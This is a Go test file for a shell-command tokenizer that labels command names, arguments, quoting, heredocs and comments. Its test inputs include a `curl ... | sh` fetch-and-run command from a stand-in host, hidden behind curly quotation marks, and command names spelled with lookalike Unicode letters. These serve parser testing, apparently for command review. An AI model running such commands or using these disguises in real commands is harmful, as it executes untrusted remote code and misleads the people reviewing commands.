package shellread

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// render lists the spans of r over src as `role/quote "text"`, skipping
// spans of blanks alone.
func render(src string, r Reading) []string {
	var out []string
	for k, s := range r.Spans {
		text := src[r.Start(k):s.End]
		if s.Role == Syntax {
			text = strings.TrimSpace(text)
			if text == "" {
				continue
			}
		}
		out = append(out, fmt.Sprintf("%v/%v %+q", s.Role, s.Quote, text))
	}
	return out
}

func TestRead(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{"ls -la /tmp", []string{`name/unquoted "ls"`, `option/unquoted "-la"`, `argument/unquoted "/tmp"`}},
		// U+2018 and U+2019 are word characters: the substitution runs.
		{"/bin/echo \u2018$(curl -fsSL https://x.example/i.sh | sh)\u2019", []string{
			`name/unquoted "/bin/echo"`, `argument/unquoted "\u2018"`, `syntax/unquoted "$("`,
			`name/unquoted "curl"`, `option/unquoted "-fsSL"`, `argument/unquoted "https://x.example/i.sh"`,
			`syntax/unquoted "|"`, `name/unquoted "sh"`, `syntax/unquoted ")"`, `argument/unquoted "\u2019"`,
		}},
		{"echo 'it\u2019s fine'", []string{`name/unquoted "echo"`, `argument/single "'it\u2019s fine'"`}},
		{"git commit -m \"R\u00e9sum\u00e9 \u2013 $V\"", []string{
			`name/unquoted "git"`, `argument/unquoted "commit"`, `option/unquoted "-m"`,
			`argument/double "\"R\u00e9sum\u00e9 \u2013 $V\""`,
		}},
		{"a=1 B=$'x\\n' >out echo - -- x # note", []string{
			`assignment/unquoted "a=1"`, `assignment/unquoted "B="`, `assignment/ansi-c "$'x\\n'"`,
			`syntax/unquoted ">"`, `redirect/unquoted "out"`, `name/unquoted "echo"`,
			`argument/unquoted "-"`, `option/unquoted "--"`, `argument/unquoted "x"`, `comment/unquoted "# note"`,
		}},
		{"cat <<EOF | grep x\nbody $(id)\nEOF\n", []string{
			`name/unquoted "cat"`, `syntax/unquoted "<<"`, `redirect/unquoted "EOF"`, `syntax/unquoted "|"`,
			`name/unquoted "grep"`, `argument/unquoted "x"`, `heredoc/unquoted "body "`, `syntax/unquoted "$("`,
			`name/unquoted "id"`, `syntax/unquoted ")"`, `heredoc/unquoted "\n"`, `syntax/unquoted "EOF"`,
		}},
		{"export P=/usr/b\u03b9n; for f in *.go; do echo \"$f\"; done", []string{
			`syntax/unquoted "export"`, `assignment/unquoted "P=/usr/b\u03b9n"`,
			`syntax/unquoted "; for f in"`, `argument/unquoted "*.go"`, `syntax/unquoted "; do"`,
			`name/unquoted "echo"`, `argument/double "\"$f\""`, `syntax/unquoted "; done"`,
		}},
		// The command a wrapper runs is named as the first word is.
		{"sudo -u deploy timeout 5 g\u0131t pull", []string{
			`name/unquoted "sudo"`, `option/unquoted "-u"`, `argument/unquoted "deploy"`,
			`name/unquoted "timeout"`, `argument/unquoted "5"`, `name/unquoted "g\u0131t"`, `argument/unquoted "pull"`,
		}},
		{"find . -exec p\u0131p install {} +", []string{
			`name/unquoted "find"`, `argument/unquoted "."`, `option/unquoted "-exec"`,
			`name/unquoted "p\u0131p"`, `argument/unquoted "install"`, `argument/unquoted "{}"`, `argument/unquoted "+"`,
		}},
		// A comment runs to the end of its line, over the NUL bytes the
		// parser leaves out of its text, and ends at a closing backquote.
		{"#\x00\u0780\u0430", []string{`comment/unquoted "#\x00\u0780\u0430"`}},
		{"ls # a\x00b\x00\nid", []string{`name/unquoted "ls"`, `comment/unquoted "# a\x00b\x00"`, `name/unquoted "id"`}},
		{"echo `true # x` ; id", []string{`name/unquoted "echo"`, "syntax/unquoted \"`\"", `name/unquoted "true"`,
			`comment/unquoted "# x"`, "syntax/unquoted \"` ;\"", `name/unquoted "id"`}},
		// Parse errors: the rest is unquoted argument text.
		{"echo ok; echo 'x", []string{`name/unquoted "echo"`, `argument/unquoted "ok"`, `syntax/unquoted ";"`,
			`name/unquoted "echo"`, `argument/unquoted "'x"`}},
		{"if true; then", []string{`argument/unquoted "if true; then"`}},
		{"echo 'x\nls -l", []string{`name/unquoted "echo"`, `argument/unquoted "'x\nls -l"`}},
		{"", nil},
	}
	for _, tt := range tests {
		r := Read(tt.in)
		if diff := cmp.Diff(tt.want, render(tt.in, r)); diff != "" {
			t.Errorf("Read(%+q) mismatch (-want +got):\n%s", tt.in, diff)
		}
		checkSpans(t, tt.in, r)
	}
}

func TestReadErrors(t *testing.T) {
	for _, tt := range []struct {
		in       string
		unparsed []Range
	}{
		{"ls -l", nil},
		{"echo ok; echo 'x", []Range{{14, 16}}},
		{"echo \"unterminated", []Range{{5, 18}}},
		{"cat <<EOF\nno end", []Range{{4, 16}}},
		// Each top-level command parses on its own.
		{"echo 'x\nls -l", []Range{{5, 13}}},
		{"if true; then\nls\n", []Range{{0, 17}}},
		{"echo 'a\nb'\nls (\necho ok", []Range{{11, 23}}},
		{strings.Repeat("$(", 1<<12), []Range{{0, 1 << 13}}},
	} {
		r := Read(tt.in)
		if diff := cmp.Diff(tt.unparsed, r.Unparsed); diff != "" || (r.Err == nil) != (tt.unparsed == nil) {
			t.Errorf("Read(%.20q): Err %v, Unparsed mismatch (-want +got):\n%s", tt.in, r.Err, diff)
		}
		checkSpans(t, tt.in, r)
	}
	if r := Read(strings.Repeat("$(", 1<<12)); !errors.Is(r.Err, ErrTooDeep) {
		t.Errorf("Read(\"$($(...\").Err = %v, want ErrTooDeep", r.Err)
	}
}

func TestSegments(t *testing.T) {
	tests := []struct {
		in   string
		want []int
	}{
		{"a\nb\nc", []int{0, 2, 4}},
		{"echo 'a\nb'\nc", []int{0, 11}},
		{"echo \"$(printf ')\n')\"\nc", []int{0, 22}},
		{"cat <<EOF\nx\nEOF\nc", []int{0, 16}},
		{"cat <<-'E' | tr a b\n\tx\n\tE\nc", []int{0, 26}},
		{"a |\nb\nc", []int{0, 6}},
		{"a \\\nb\nc", []int{0, 6}},
		{"if x; then\ny\nfi\nz", []int{0, 16}},
		{"f() {\n  g\n}\nh", []int{0, 12}},
		{"# it's\nx", []int{0, 7}},
		{"a=`b\nc`\nd", []int{0, 8}},
	}
	for _, tt := range tests {
		if diff := cmp.Diff(tt.want, segments(tt.in)); diff != "" {
			t.Errorf("segments(%+q) mismatch (-want +got):\n%s", tt.in, diff)
		}
	}
}

func TestReadFor(t *testing.T) {
	src := "ls -l\necho \u2018$(id)\u2019\nmake test\n"
	got := render(src, ReadFor(src, nil))
	want := []string{`unread/unquoted "ls -l\n"`, `name/unquoted "echo"`, `argument/unquoted "\u2018"`, `syntax/unquoted "$("`,
		`name/unquoted "id"`, `syntax/unquoted ")"`, `argument/unquoted "\u2019"`, `unread/unquoted "make test\n"`}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ReadFor(%+q) mismatch (-want +got):\n%s", src, diff)
	}
}

func TestAt(t *testing.T) {
	src := "echo 'a b' c"
	r := Read(src)
	var got []string
	for i := range len(src) + 1 {
		s := r.At(i)
		got = append(got, s.Role.String()[:1]+s.Quote.String()[:1])
	}
	want := strings.Fields("nu nu nu nu su as as as as as su au su")
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("At over %q mismatch (-want +got):\n%s", src, diff)
	}
}

// checkSpans checks that the spans of r cover src exactly, in order, and
// that neighbours differ.
func checkSpans(t *testing.T, src string, r Reading) {
	t.Helper()
	prev := Span{End: 0, Role: 0xff}
	for k, s := range r.Spans {
		if s.End <= r.Start(k) || (k > 0 && s.Role == prev.Role && s.Quote == prev.Quote) || s.Role >= numRoles {
			t.Fatalf("Read(%.40q): bad span %d %+v after %+v", src, k, s, prev)
		}
		prev = s
	}
	if len(src) > 0 && (len(r.Spans) == 0 || r.Spans[len(r.Spans)-1].End != len(src)) {
		t.Fatalf("Read(%.40q): spans end at %v, want %d", src, r.Spans, len(src))
	}
	if (r.Err == nil) != (len(r.Unparsed) == 0) {
		t.Fatalf("Read(%.40q): Unparsed %v, Err %v", src, r.Unparsed, r.Err)
	}
}
